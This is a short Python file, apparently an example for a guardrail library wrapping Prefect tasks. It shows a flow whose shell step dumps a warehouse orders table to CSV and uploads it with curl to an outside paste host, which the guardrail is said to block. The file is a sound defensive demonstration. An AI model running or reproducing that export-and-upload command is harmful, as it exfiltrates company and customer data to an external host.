"""A shell step that exports orders and uploads the file: blocked before a shell starts.

The command is parsed as shell: the SQL handed to sqlite3 is a read, but `curl -T` uploads the
export to a host outside the company, which the baseline denies.
"""

from __future__ import annotations

import os
import subprocess

from prefect import flow, task

from prefect_guardrails import guarded

WAREHOUSE_DB = os.environ.get("WAREHOUSE_DB", "warehouse.sqlite3")


@task(retries=2)
@guarded(shell="command")
def upload_orders_export(command: str) -> None:
    subprocess.run(["bash", "-c", command], check=True)


@flow(name="orders_export")
def orders_export(day: str = "20261123") -> None:
    upload_orders_export(
        f"sqlite3 -csv {WAREHOUSE_DB} 'SELECT * FROM raw_orders' > /tmp/orders_{day}.csv"
        f" && curl -T /tmp/orders_{day}.csv https://paste.example.com/upload",
        return_state=True,
    )


if __name__ == "__main__":
    orders_export()
